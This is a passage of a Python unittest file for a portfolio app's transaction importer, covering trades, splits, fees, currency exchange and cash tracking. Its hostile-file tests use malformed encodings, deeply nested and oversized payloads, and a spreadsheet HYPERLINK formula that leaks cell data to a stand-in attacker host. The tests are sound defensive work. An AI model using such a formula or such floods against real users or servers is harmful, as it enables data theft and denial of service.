        self.assertEqual(r.status, 422, r.body)
        e = r.json["error"]
        self.assertEqual(e["errors"], 4, e)
        self.assertEqual([(l["line"], l["field"]) for l in e["lines"]],
                         [(3, "date"), (4, "symbol"), (5, "price"), (7, "quantity")])
        self.assertIn("NOSUCH1", e["lines"][1]["reason"])
        self.assertIn("point", e["lines"][2]["reason"])
        self.assertIn("only 2 were held", e["lines"][3]["reason"])
        self.assertEqual(e["lines"][3]["text"], "2024-01-06,sell,%s,5,10,,,,," % b)
        self.assertEqual([(u["symbol"], u["rows"]) for u in e["unknown_symbols"]],
                         [("NOSUCH1", 1)])
        self.assertEqual(self.txcount(pid), 0)

    def test_fmt_day_trade_newest_first(self):
        a = instrument(self.u)
        pid = self.u.portfolio("Day", "USD")
        body = NESTEGG_HEAD + ("2024-03-15T15:30:00Z,sell,%s,5,110,1,,,,\n"
                               "2024-03-15 10:30,buy,%s,5,100,1,,,,\n"
                               "20240316;103000,buy,%s,2,100,,,,,\n" % (a, a, a))
        j = self.ok(self.imp(pid, body))
        h = self.by_symbol(j["portfolio"]["holdings"])[a.upper()]
        self.assertEqual((h["quantity"], h["cost"], h["realized"]), ("2", "200.00", "48.00"))
        # Same day and time: file order, so a sell first is refused.
        c = instrument(self.u)
        r = self.imp(self.u.portfolio("Day2", "USD"),
                     NESTEGG_HEAD + ("2024-03-15T10:00:00Z,sell,%s,5,110,,,,,\n"
                                     "2024-03-15T10:00:00Z,buy,%s,5,100,,,,,\n" % (c, c)))
        self.assertEqual(r.status, 422, r.body)
        self.assertEqual(r.json["error"]["lines"][0]["line"], 2)

    def test_fmt_sell_on_split_date(self):
        a = instrument(self.u)
        pid = self.u.portfolio("Split", "USD")
        body = NESTEGG_HEAD + ("2024-01-02,buy,%s,10,100,,,,,\n"
                               "2024-06-10,sell,%s,15,60,,,,,\n"
                               "2024-06-10,split,%s,2,,,,,,\n" % (a, a, a))
        j = self.ok(self.imp(pid, body))
        h = self.by_symbol(j["portfolio"]["holdings"])[a.upper()]
        # The split first: 20 shares, 15 sold, 5 left of cost 1000.
        self.assertEqual((h["quantity"], h["cost"], h["realized"]), ("5", "250.00", "150.00"))

    def test_fmt_explicit_zero_fees(self):
        a = instrument(self.u)
        pid = self.u.portfolio("Zero", "USD")
        body = NESTEGG_HEAD + ("2024-01-01,deposit,,,,0,1000,USD,,\n"
                               "2024-01-02,buy,%s,10,10,0,,,,\n"
                               "2024-01-03,split,%s,2,,0,,,,\n"
                               "2024-01-04,fee,,,,0,5,USD,,\n"
                               "2024-01-05,tax,,,,0.00,3,USD,,\n"
                               "2024-01-06,withdrawal,,,,0,100,USD,,\n" % (a, a))
        j = self.ok(self.imp(pid, body))
        self.assertEqual(j["imported"], 6)
        self.assertEqual(self.cash_of(j["cash"]), {"USD": "792.00"})
        self.assert_holdings(j["holdings"], {a.upper(): ("20", "100.00")})

    def test_fmt_exchange_moves_cash(self):
        g = instrument(self.u, "GBP")
        pid = self.u.portfolio("FX", "EUR")
        body = ("date,type,symbol,quantity,price,fee,amount,currency,counter_currency,fx_rate\n"
                "2024-01-01,deposit,,,,,1000,EUR,,\n"
                "2024-01-02,exchange,,,0.86,,300,EUR,GBP,\n"     # rate: 258 GBP
                "2024-01-02,exchange,,172,,,200,EUR,GBP,\n"      # amount bought
                "2024-01-03,buy,%s,100,4.3,,,GBP,,1.16\n" % g)
        j = self.ok(self.imp(pid, body))
        self.assertEqual(j["per_type"], {"deposit": 1, "exchange": 2, "buy": 1})
        cash = self.cash_of(j["cash"])
        self.assertEqual(cash["EUR"], "500.00")
        self.assertEqual(cash.get("GBP", "0.00"), "0.00")
        self.assert_holdings(j["holdings"], {g.upper(): ("100", "498.80")})
        for c in j["portfolio"]["cash"]:
            self.assertFalse(c["balance"].startswith("-"), c)
        counters = self.stack.sql("SELECT counter_currency, quantity FROM transactions "
                                  "WHERE portfolio_id = %d AND type = 'exchange' ORDER BY id"
                                  % pid)
        self.assertEqual([(c, Decimal(q)) for c, q in counters],
                         [("GBP", Decimal(258)), ("GBP", Decimal(172))])

    def test_fmt_cash_tracking(self):
        a = instrument(self.u)
        debt = instrument(self.u, "USD", kind="liability", source="manual", prefix="LOAN")
        pid = self.u.portfolio("Tracking", "USD")
        body = NESTEGG_HEAD + ("2024-01-02,buy,%s,10,100,,,,,\n"
                               "2024-01-02,transfer_in,%s,1,1000,,,,,\n" % (a, debt))
        j = self.ok(self.imp(pid, body))
        self.assertTrue(j["cash_tracking_off"])
        self.assertEqual(self.cash_of(j["cash"]), {"USD": "-1000.00"})
        self.assertEqual(self.stack.cli("price", "set", a, "120").returncode, 0)
        self.assertEqual(self.stack.cli("price", "set", debt, "900").returncode, 0)
        v = self.u.view(pid)
        t = v["totals"]
        # 1200 - 900: the liability counts against the value; no cash.
        self.assertEqual(t["holdings_value"], "300.00")
        self.assertEqual(t["value"], "300.00")
        self.assertEqual(t["cash"], "0.00")
        loan = self.by_symbol(v["holdings"])[debt.upper()]
        self.assertEqual((loan["value"], loan["unrealized"]), ("-900.00", "100.00"))
        self.assertEqual(t["cost"], "0.00")             # 1000 - 1000: counted negative
        self.u.c.get("/portfolios/%d/edit" % pid)
        r = self.u.c.post("/portfolios/%d/edit" % pid,
                          {"name": "Tracking", "cost_method": "fifo", "track_cash": "1"})
        self.assertEqual(r.status, 303, r.body[-500:])
        v = self.u.view(pid)
        self.assertEqual(v["totals"]["cash"], "-1000.00")
        self.assertEqual(v["totals"]["value"], "-700.00")
        self.assertEqual(self.cash_of(v["cash"]), {"USD": "-1000.00"})
        # A second import into the portfolio leaves tracking alone.
        j = self.ok(self.imp(pid, NESTEGG_HEAD + "2024-02-01,buy,%s,1,100,,,,,\n" % a))
        self.assertFalse(j["cash_tracking_off"])
        self.assertEqual(self.u.view(pid)["totals"]["cash"], "-1100.00")
        # The liability's own row should agree with the totals (cost counted
        # negative, unrealized = value - cost = -900 - -1000 = 100).
        self.assertEqual(loan["cost"], "-1000.00", loan)

    # -- hostile files -----------------------------------------------------

    def refused(self, pid, r, status=422, words=None):
        self.assertEqual(r.status, status, r.body[:1000])
        if words:
            self.assertIn(words, r.json["error"]["message"] + " " +
                          " ".join(l["reason"] for l in r.json["error"]["lines"]))
        self.assertEqual(self.txcount(pid), 0)

    def test_fmt_hostile_encoding_and_json(self):
        a = instrument(self.u)
        pid = self.u.portfolio("Hostile", "USD")
        bad = ("date,type,symbol,quantity,price\n2024-01-02,buy,%s,1,1,\xff\xfe\n"
               % a).encode("latin-1")
        self.refused(pid, self.imp(pid, bad), words="UTF-8")
        self.refused(pid, self.imp(pid, b'{"activities": [{"comment": "\xc3\x28"}]}',
                                   "application/json"), words="UTF-8")
        deep = b"[" * 100000 + b"]" * 100000
        self.refused(pid, self.imp(pid, deep, "application/json"), words="JSON")
        deep = b'{"activities": ' + b"[" * 100000 + b"]" * 100000 + b"}"
        self.refused(pid, self.imp(pid, deep, "application/json"), words="JSON")
        many = b'{"activities": [' + b",".join([b"1"] * 1000000) + b"]}"
        self.refused(pid, self.imp(pid, many, "application/json"), words="Too many")
        some = b'{"activities": [' + b",".join([b"1e308"] * 5000) + b"]}"
        r = self.imp(pid, some, "application/json")
        self.refused(pid, r, words="not an object")
        self.assertEqual(r.json["error"]["errors"], 5000)
        self.assertLessEqual(len(r.json["error"]["lines"]), 200)

    def test_fmt_hostile_sizes(self):
        pid = self.u.portfolio("Big", "USD")
        lines = b"date,type,symbol,quantity,price\n" + b"20240102,b\n" * 1000000
        self.assertLess(len(lines), 16 << 20)
        self.refused(pid, self.imp(pid, lines), words="Too many lines")
        status = self.post_huge("/api/v1/portfolios/%d/import" % pid, 50 << 20)
        self.assertEqual(status, 413)
        self.assertEqual(self.txcount(pid), 0)

    def post_huge(self, path, size):
        """POSTs size bytes; the server may answer before reading them."""
        c = self.u.c
        conn = harness.http.client.HTTPSConnection(
            "127.0.0.1", self.stack.https_port, context=c.ctx,
            source_address=(c.address, 0), timeout=60)
        conn.putrequest("POST", path, skip_host=True, skip_accept_encoding=True)
        conn.putheader("Host", "127.0.0.1:%d" % self.stack.https_port)
        conn.putheader("Cookie", "; ".join("%s=%s" % kv for kv in c.cookies.items()))
        conn.putheader("X-CSRF-Token", c.csrf)
        conn.putheader("Content-Type", "text/csv")
        conn.putheader("Content-Length", str(size))
        conn.endheaders()
        chunk = b"x" * (1 << 20)
        try:
            for _ in range(size // len(chunk)):
                conn.send(chunk)
        except (BrokenPipeError, ConnectionResetError, OSError):
            pass
        try:
            return conn.getresponse().status
        finally:
            conn.close()

    def test_fmt_formula_note_round_trips(self):
        a = instrument(self.u)
        pid = self.u.portfolio("Formula", "USD")
        note = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
        body = NESTEGG_HEAD + '2024-01-02,buy,%s,1,10,,,,,"%s"\n' % (a, note.replace('"', '""'))
        self.ok(self.imp(pid, body))
        self.assertEqual(self.stack.sql("SELECT note FROM transactions WHERE portfolio_id = %d"
                                        % pid), [[note]])
        exported = self.u.c.get("/portfolios/%d/export.csv" % pid)
        self.assertEqual(exported.status, 200)
        # Exported so that no spreadsheet runs it; imported back as it was.
        rows = list(csv.DictReader(io.StringIO(exported.body.decode())))
        self.assertEqual(rows[0]["note"], "'" + note)
        copy = self.u.portfolio("Formula copy", "USD")
        self.ok(self.imp(copy, exported.body))
        self.assertEqual(self.stack.sql("SELECT note FROM transactions WHERE portfolio_id = %d"
                                        % copy), [[note]])


if __name__ == "__main__":
    unittest.main()
